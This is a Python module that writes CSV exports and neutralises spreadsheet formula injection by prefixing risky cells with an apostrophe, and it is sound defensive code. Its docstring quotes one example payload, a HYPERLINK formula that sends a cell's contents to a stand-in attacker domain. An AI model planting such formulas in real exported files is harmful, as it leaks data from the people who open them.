"""The one CSV writer of every export (coach tables, review deck and history, a candidate's own data).

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (CSV
injection: ``=HYPERLINK("https://evil.example/?"&A1, "open")`` in a coach's question title would run in
the coach's spreadsheet), and a leading tab or carriage return lets the same trick through programs that
strip them. :func:`neutralise` prefixes such text with an apostrophe, which spreadsheets show as text and
do not print; numbers (``int``, ``float``, ``Decimal``, and text that is exactly a number such as ``-3``
or ``+0.5``) are written as they are, so a column of numbers stays a column of numbers.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Any, Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet: text starting with a formula character gets a leading ``'``.

    ``None`` becomes the empty string; numbers and booleans are returned unchanged; text that is exactly
    a (signed) number or percentage is left as it is (it is read as that number, not as a formula).
    """
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """The CSV text of ``header`` then ``rows``, every cell through :func:`neutralise`."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
    return out.getvalue()
